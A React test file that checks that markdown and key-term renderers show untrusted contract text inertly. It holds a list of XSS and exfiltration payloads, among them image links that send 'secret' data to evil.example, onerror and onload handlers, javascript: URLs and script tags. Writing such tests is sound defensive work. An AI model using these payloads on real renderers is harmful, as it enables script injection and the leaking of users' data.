import { describe, expect, it } from 'vitest';
import { render } from '@testing-library/react';
import { SafeMarkdown } from '../../renderer/src/components/SafeMarkdown/SafeMarkdown';
import { KeyTermsTable } from '../../renderer/src/components/KeyTermsTable/KeyTermsTable';

// SECURITY E17 / P6: contract and model text is untrusted. Nothing in it may load, run or navigate.
const PAYLOADS = [
  '![x](https://evil.example/?q=Acme%20Corp%20secret)',
  '<img src=x onerror="window.__pwned=1">',
  '[click me](javascript:alert(1))',
  '[docs](https://evil.example/collect?d=secret)',
  '<https://evil.example/auto>',
  '<script>window.__pwned=2</script>',
  '<a href="https://evil.example">raw anchor</a>',
  '![ref][r]\n\n[r]: https://evil.example/ref.png',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="window.__pwned=3"></svg>',
].join('\n\n');

function assertInert(container: HTMLElement) {
  expect(container.querySelectorAll('img, script, iframe, svg, object, embed, video, audio, source, link, style')).toHaveLength(0);
  for (const a of container.querySelectorAll('a')) expect(a.getAttribute('href')).toBeNull();
  for (const el of container.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      expect(attr.startsWith('on')).toBe(false);
      expect(['src', 'href', 'srcset', 'action', 'formaction', 'style']).not.toContain(attr);
    }
  }
  expect((window as unknown as Record<string, unknown>).__pwned).toBeUndefined();
}

describe('render safety', () => {
  it('renders exfiltration and script payloads as inert text', () => {
    const { container } = render(<SafeMarkdown markdown={PAYLOADS} onCite={() => {}} />);
    assertInert(container);
    const text = container.textContent ?? '';
    // Still readable, so the reader sees what the document tried to do.
    expect(text).toContain('![x](https://evil.example/?q=Acme%20Corp%20secret)');
    expect(text).toContain('<img src=x onerror="window.__pwned=1">');
    expect(text).toContain('click me');
    expect(text).toContain('<script>window.__pwned=2</script>');
  });

  it('keeps a payload disguised as a citation link a harmless in-app button', () => {
    const { container } = render(<SafeMarkdown markdown={'[p. 3](https://evil.example/) and [p. 3]'} onCite={() => {}} />);
    assertInert(container);
    expect(container.querySelectorAll('button')).toHaveLength(1);
  });

  it('renders key-term values from a hostile document as text', () => {
    const { container } = render(
      <KeyTermsTable
        terms={{
          title: { value: '<img src=x onerror=alert(1)>', text: '![t](https://evil.example/t)', citations: [{ blockId: 'p1.1', page: 1 }] },
          parties: { value: [{ name: '<script>x()</script>', role: 'Discloser' }], text: 'x', citations: [] },
        }}
        onCite={() => {}}
      />,
    );
    assertInert(container);
    expect(container.textContent).toContain('<img src=x onerror=alert(1)>');
  });
});
